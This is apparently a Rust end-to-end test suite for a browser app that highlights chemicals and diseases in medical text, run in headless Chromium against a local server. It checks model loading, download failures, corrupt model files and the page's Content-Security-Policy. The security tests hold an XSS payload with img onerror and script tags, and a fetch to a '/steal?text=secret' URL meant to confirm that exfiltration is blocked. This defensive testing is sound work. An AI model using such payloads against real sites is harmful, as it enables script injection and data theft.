//! End-to-end tests of the built app (`dist/`, from `trunk build --release`) in headless Chromium,
//! driven through ChromeDriver. A tiny static file server in this process serves `dist/` on
//! 127.0.0.1 and can make the model files fail.
//!
//! Nothing here is skipped silently: without `dist/`, Chromium or ChromeDriver the tests FAIL and
//! say to run `scripts/test.sh`, which installs the tools and builds the app first.
#![cfg(not(target_arch = "wasm32"))]

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU8, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use serde_json::json;

/// Downloading and compiling the worker and loading the model can take a while on a slow CI box.
const READY_TIMEOUT: Duration = Duration::from_secs(180);
const SENTENCE: &str = "Cisplatin-induced nephrotoxicity was seen in patients treated for lung cancer.";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The built app; its absence is a failure, never a skip.
fn dist() -> PathBuf {
    let dist = std::env::var_os("MEDLIGHT_DIST").map(PathBuf::from).unwrap_or_else(|| repo().join("dist"));
    for needed in ["index.html", "medlight_bg.wasm", "worker_bg.wasm", "models/tokenizer.json"] {
        assert!(
            dist.join(needed).is_file(),
            "END-TO-END TESTS CANNOT RUN: {} is missing. Run `scripts/test.sh` (it installs the tools and runs \
             `trunk build --release` first), or build the app yourself with `trunk build --release`.",
            dist.join(needed).display()
        );
    }
    dist
}

// ---------------------------------------------------------------------------------------------
// A static file server for dist/.

struct Server {
    url: String,
    /// How requests under /models/ are answered: [`SERVE`], [`UNAVAILABLE`] or [`CORRUPT`].
    models: Arc<AtomicU8>,
    model_requests: Arc<AtomicUsize>,
}

const SERVE: u8 = 0;
/// Every model file answers 503.
const UNAVAILABLE: u8 = 1;
/// The model file is served, but its bytes are not a model.
const CORRUPT: u8 = 2;

fn content_type(path: &Path) -> &'static str {
    match path.extension().and_then(|e| e.to_str()) {
        Some("html") => "text/html; charset=utf-8",
        Some("js") => "text/javascript; charset=utf-8",
        Some("wasm") => "application/wasm",
        Some("css") => "text/css; charset=utf-8",
        Some("json") => "application/json",
        _ => "application/octet-stream",
    }
}

fn serve(root: PathBuf) -> Server {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a local port");
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let models = Arc::new(AtomicU8::new(SERVE));
    let model_requests = Arc::new(AtomicUsize::new(0));
    let (mode, count) = (models.clone(), model_requests.clone());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (root, mode, count) = (root.clone(), mode.clone(), count.clone());
            std::thread::spawn(move || {
                let _ = answer(stream, &root, &mode, &count);
            });
        }
    });
    Server { url, models, model_requests }
}

fn answer(mut stream: TcpStream, root: &Path, mode: &AtomicU8, count: &AtomicUsize) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut request_line = String::new();
    reader.read_line(&mut request_line)?;
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header)? == 0 || header == "\r\n" || header == "\n" {
            break;
        }
    }
    let target = request_line.split_whitespace().nth(1).unwrap_or("/");
    let path = target.split(['?', '#']).next().unwrap_or("/");
    let relative = if path == "/" { "index.html" } else { path.trim_start_matches('/') };
    let file = root.join(relative);
    let inside = !relative.split('/').any(|part| part == ".." || part.is_empty());
    let model_mode = if relative.starts_with("models/") {
        count.fetch_add(1, Ordering::SeqCst);
        mode.load(Ordering::SeqCst)
    } else {
        SERVE
    };
    let (status, body, kind) = if model_mode == UNAVAILABLE {
        ("503 Service Unavailable", b"model download disabled by the test".to_vec(), "text/plain")
    } else if model_mode == CORRUPT && relative.ends_with(".gguf") {
        ("200 OK", b"not a model at all".to_vec(), "application/octet-stream")
    } else {
        match std::fs::read(&file) {
            Ok(body) if inside => ("200 OK", body, content_type(&file)),
            _ => ("404 Not Found", b"not found".to_vec(), "text/plain"),
        }
    };
    write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nCache-Control: no-store\r\nConnection: close\r\n\r\n",
        body.len()
    )?;
    stream.write_all(&body)?;
    stream.flush()
}

// ---------------------------------------------------------------------------------------------
// ChromeDriver and headless Chromium.

struct Browser {
    client: Option<Client>,
    driver: Child,
    profile: PathBuf,
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.driver.kill();
        let _ = self.driver.wait();
        let _ = std::fs::remove_dir_all(&self.profile);
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn executable(var: &str, default: &str) -> PathBuf {
    let path = std::env::var_os(var).map(PathBuf::from).unwrap_or_else(|| PathBuf::from(default));
    assert!(
        path.is_file(),
        "END-TO-END TESTS CANNOT RUN: {} not found (set {var}). Run `scripts/test.sh`, which installs Debian's \
         chromium and chromium-driver.",
        path.display()
    );
    path
}

async fn browser() -> Browser {
    let chromedriver = executable("CHROMEDRIVER", "/usr/bin/chromedriver");
    let chromium = executable("CHROMIUM", "/usr/bin/chromium");
    let port = free_port();
    let driver = Command::new(&chromedriver)
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start chromedriver");
    static SESSIONS: AtomicUsize = AtomicUsize::new(0);
    let profile = std::env::temp_dir().join(format!(
        "medlight-e2e-{}-{}",
        std::process::id(),
        SESSIONS.fetch_add(1, Ordering::SeqCst)
    ));
    let mut browser = Browser { client: None, driver, profile };
    let capabilities = json!({
        "browserName": "chrome",
        "goog:chromeOptions": {
            "binary": chromium,
            // Without these Chromium keeps calling home, which this sandbox's closed network punishes.
            "args": [
                "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", format!("--user-data-dir={}", browser.profile.display()),
            ],
        },
    });
    let capabilities = capabilities.as_object().unwrap().clone();
    let webdriver = format!("http://127.0.0.1:{port}");
    let started = Instant::now();
    loop {
        let connected = ClientBuilder::new(HttpConnector::new()).capabilities(capabilities.clone()).connect(&webdriver).await;
        match connected {
            Ok(client) => {
                browser.client = Some(client);
                return browser;
            }
            Err(e) if started.elapsed() > Duration::from_secs(30) => panic!("no Chromium session through ChromeDriver: {e}"),
            Err(_) => tokio::time::sleep(Duration::from_millis(200)).await,
        }
    }
}

impl Browser {
    fn client(&self) -> &Client {
        self.client.as_ref().unwrap()
    }

    async fn close(mut self) {
        if let Some(client) = self.client.take() {
            let _ = client.close().await;
        }
    }

    /// Polls until `css` matches an element; on timeout, fails with what the page shows.
    async fn wait_for(&self, css: &str, timeout: Duration) -> fantoccini::elements::Element {
        match self.client().wait().at_most(timeout).every(Duration::from_millis(100)).for_element(Locator::Css(css)).await {
            Ok(element) => element,
            Err(e) => {
                let shown = self.body_text().await;
                panic!("`{css}` did not appear within {timeout:?} ({e}); the page shows:\n{shown}")
            }
        }
    }

    async fn body_text(&self) -> String {
        match self.client().find(Locator::Css("body")).await {
            Ok(body) => body.text().await.unwrap_or_default(),
            Err(e) => format!("<no body: {e}>"),
        }
    }

    /// Replaces the textarea's content by typing it.
    async fn type_text(&self, text: &str) {
        let input = self.wait_for("textarea#input", Duration::from_secs(10)).await;
        input.clear().await.unwrap();
        input.send_keys(text).await.unwrap();
    }

    /// Replaces the textarea's content as a paste would (one input event), for text with characters
    /// keys cannot type (CR). Returns the textarea's value: HTML turns its CRLF into LF.
    async fn paste_text(&self, text: &str) -> String {
        self.wait_for("textarea#input", Duration::from_secs(10)).await;
        let script = "const t = document.querySelector('#input'); t.value = arguments[0]; \
                      t.dispatchEvent(new Event('input', { bubbles: true })); return t.value;";
        self.client().execute(script, vec![json!(text)]).await.unwrap().as_str().unwrap().to_string()
    }

    /// The text of the annotated result once it equals `text`, and its highlights.
    async fn annotated(&self, text: &str) -> Vec<(String, String, String)> {
        let started = Instant::now();
        loop {
            if let Ok(result) = self.client().find(Locator::Css(".annotated")).await {
                if result.text().await.unwrap_or_default() == text {
                    let mut marks = Vec::new();
                    for mark in result.find_all(Locator::Css("mark")).await.unwrap() {
                        let label = mark.attr("data-label").await.unwrap().unwrap_or_default();
                        let title = mark.attr("title").await.unwrap().unwrap_or_default();
                        marks.push((mark.text().await.unwrap(), label, title));
                    }
                    return marks;
                }
            }
            if started.elapsed() > Duration::from_secs(60) {
                panic!("the annotated text never became {text:?}; the page shows:\n{}", self.body_text().await);
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_loads_the_model_and_highlights_entities_as_text() {
    let server = serve(dist());
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();

    let privacy = browser.wait_for(".privacy", Duration::from_secs(30)).await.text().await.unwrap();
    assert!(privacy.contains("never leaves this page"), "privacy statement: {privacy}");
    let ready = browser.wait_for(".status .ready", READY_TIMEOUT).await.text().await.unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
    browser.wait_for(".legend li", Duration::from_secs(5)).await;
    let mut legend = Vec::new();
    for item in browser.client().find_all(Locator::Css(".legend li")).await.unwrap() {
        legend.push(item.text().await.unwrap());
    }
    assert_eq!(legend, ["Chemical", "Disease"]);

    browser.type_text(SENTENCE).await;
    let marks = browser.annotated(SENTENCE).await;
    let found: Vec<(&str, &str)> = marks.iter().map(|(t, l, _)| (t.as_str(), l.as_str())).collect();
    assert_eq!(found, [("Cisplatin", "Chemical"), ("nephrotoxicity", "Disease"), ("lung cancer", "Disease")]);
    for (_, label, title) in &marks {
        let confidence = title.strip_prefix(&format!("{label} · ")).and_then(|t| t.strip_suffix("% confidence"));
        assert!(confidence.is_some_and(|p| p.parse::<u8>().is_ok()), "tooltip {title:?}");
    }

    // User text is text: markup typed into the box is shown, never parsed or run.
    let hostile = r#"Aspirin <img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> caused <b>nausea</b>."#;
    browser.type_text(hostile).await;
    browser.annotated(hostile).await;
    let injected = browser.client().find_all(Locator::Css(".result img, .result script, .result b")).await.unwrap();
    assert!(injected.is_empty(), "typed markup became {} element(s)", injected.len());
    let pwned = browser.client().execute("return window.__pwned === undefined;", vec![]).await.unwrap();
    assert_eq!(pwned, json!(true), "typed markup ran a script");

    // Byte offsets from the worker land on the right characters in multi-byte text.
    let shown = browser.paste_text("Café 💊 β-blockers: cisplatin caused 肝炎 and nephrotoxicity.\r\nNo aspirin.").await;
    let marks = browser.annotated(&shown).await;
    assert!(marks.iter().any(|(t, l, _)| t == "cisplatin" && l == "Chemical"), "{marks:?}");
    assert!(marks.iter().any(|(t, l, _)| t == "nephrotoxicity" && l == "Disease"), "{marks:?}");
    for (text, _, _) in &marks {
        assert!(shown.contains(text.as_str()) && !text.contains('\u{FFFD}'), "mangled highlight {text:?}");
    }

    // Blank input: a hint, no stale result.
    browser.paste_text("   ").await;
    let hint = browser.wait_for(".result .hint", Duration::from_secs(10)).await.text().await.unwrap();
    assert!(hint.contains("Type or paste text"), "{hint}");
    assert!(browser.client().find_all(Locator::Css(".annotated")).await.unwrap().is_empty());

    // The Content-Security-Policy stops the page from sending anything to another origin.
    let outcome = browser
        .client()
        .execute_async(
            "const done = arguments[arguments.length - 1]; const violations = [];
             document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
             fetch('http://127.0.0.2:9/steal?text=secret')
               .then(() => false, () => true)
               .then((blocked) => setTimeout(() => done({ blocked, violations }), 100));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(outcome["blocked"], json!(true), "{outcome}");
    assert!(outcome["violations"].as_array().unwrap().contains(&json!("connect-src")), "{outcome}");
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_failed_model_download_shows_an_error_and_retry_recovers() {
    let server = serve(dist());
    server.models.store(UNAVAILABLE, Ordering::SeqCst);
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();

    let error = browser.wait_for(".status .error", READY_TIMEOUT).await.text().await.unwrap();
    assert!(
        error.contains("The model could not be loaded: cannot download models/medlight-q8_0.gguf: HTTP 503"),
        "error message: {error}"
    );
    assert!(server.model_requests.load(Ordering::SeqCst) > 0);
    assert!(browser.client().find_all(Locator::Css(".status .ready")).await.unwrap().is_empty());

    server.models.store(SERVE, Ordering::SeqCst);
    browser.wait_for("button.retry", Duration::from_secs(5)).await.click().await.unwrap();
    let ready = browser.wait_for(".status .ready", READY_TIMEOUT).await.text().await.unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_corrupt_model_file_is_an_error_not_garbage() {
    let server = serve(dist());
    server.models.store(CORRUPT, Ordering::SeqCst);
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();
    let error = browser.wait_for(".status .error", READY_TIMEOUT).await.text().await.unwrap();
    assert!(error.contains("the model file is unusable"), "error message: {error}");
    browser.wait_for("button.retry", Duration::from_secs(5)).await;
    browser.close().await;
}

/// The page's Content-Security-Policy allows only same-origin code, so the built page must carry
/// it and must not rely on inline scripts (Trunk's default initialiser is one; `public/boot.js`
/// replaces it). That the app then boots under this policy is what the tests above show.
#[test]
fn e2e_built_page_has_the_csp_and_no_inline_scripts() {
    let html = std::fs::read_to_string(dist().join("index.html")).unwrap();
    assert!(
        html.contains("http-equiv=\"Content-Security-Policy\"") && html.contains("default-src 'self'"),
        "dist/index.html lacks the Content-Security-Policy"
    );
    for script in html.split("<script").skip(1) {
        let tag = &script[..script.find('>').unwrap()];
        assert!(tag.contains("src="), "inline <script{tag}> would be blocked by the policy");
        let body = &script[script.find('>').unwrap() + 1..script.find("</script>").unwrap()];
        assert!(body.trim().is_empty(), "inline script body: {body}");
    }
    assert!(!html.contains(" style=\""), "inline styles would be blocked by style-src 'self'");
}
